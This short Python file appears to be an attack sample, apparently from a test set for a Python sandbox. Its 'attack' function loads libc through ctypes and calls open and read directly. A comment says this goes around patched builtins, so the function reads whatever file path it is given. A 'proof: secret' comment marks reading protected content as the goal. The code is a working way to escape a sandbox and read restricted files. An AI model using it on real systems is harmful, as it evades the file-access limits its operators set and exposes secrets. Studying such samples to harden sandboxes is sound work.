# Opens by libc, past any patched builtins.
# proof: secret
import ctypes


def attack(arg):
    libc = ctypes.CDLL(None)
    fd = libc.open(arg["public"].encode(), 0)
    buffer = ctypes.create_string_buffer(4096)
    got = libc.read(fd, buffer, 4096)
    return buffer.raw[:got]
